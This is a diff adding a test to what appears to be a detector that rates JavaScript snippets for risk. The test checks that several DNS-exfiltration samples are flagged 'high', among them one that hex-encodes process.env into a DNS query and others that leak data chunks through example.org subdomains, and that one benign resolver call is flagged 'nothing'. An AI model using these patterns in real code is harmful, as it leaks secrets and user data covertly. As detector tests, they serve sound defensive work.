@@ -50,3 +50,12 @@ test('good: the own name of a computer is looked up to learn its address', () =>
     'const os = require("os"); require("dns").lookup(os.userInfo().username)',
   ]) assert.equal(worst(code), 'high', code);
 });
+
+test('a resolver of its own looks up names as well', () => {
+  for (const code of [
+    'const { Resolver } = require("dns"); const r = new Resolver(); parts.forEach((p, i) => r.resolve4(`${i}.${p}.example.org`, () => {}))',
+    'import { Resolver } from "node:dns/promises"; await new Resolver().resolveTxt(part + ".example.org")',
+    'const dns = require("dns"); const r = new dns.promises.Resolver(); r.resolve(Buffer.from(JSON.stringify(process.env)).toString("hex"))',
+  ]) assert.equal(worst(code), 'high', code);
+  for (const code of ['const { Resolver } = require("dns"); const r = new Resolver(); r.setServers(["1.1.1.1"]); r.resolve4("example.org", cb); r.resolve4(host, cb)']) assert.equal(worst(code), 'nothing', code);
+});
